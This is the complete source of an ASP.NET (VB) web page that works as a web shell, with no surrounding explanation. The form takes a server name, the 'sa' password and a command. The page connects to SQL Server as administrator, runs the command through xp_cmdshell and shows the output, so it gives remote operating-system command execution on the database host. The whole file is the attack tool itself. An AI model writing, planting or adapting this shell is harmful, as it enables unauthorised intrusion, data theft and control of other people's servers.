<%@ Page Language="VB" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
Sub Go(sender As Object, e As EventArgs)
    Dim cn As New SqlConnection("Server=" & srv.Text & ";User Id=sa;Password=" & pw.Text)
    cn.Open()
    Dim cm As New SqlCommand("EXEC master..xp_cmdshell '" & cmd.Text.Replace("'", "''") & "'", cn)
    Dim rd As SqlDataReader = cm.ExecuteReader()
    While rd.Read()
        outp.Text &= Server.HtmlEncode(rd(0).ToString()) & "<br/>"
    End While
End Sub
</script>
<html><body><form runat="server">
<asp:TextBox ID="srv" runat="server" /><asp:TextBox ID="pw" runat="server" /><asp:TextBox ID="cmd" runat="server" />
<asp:Button ID="b" runat="server" Text="Go" OnClick="Go" /><asp:Label ID="outp" runat="server" />
</form></body></html>
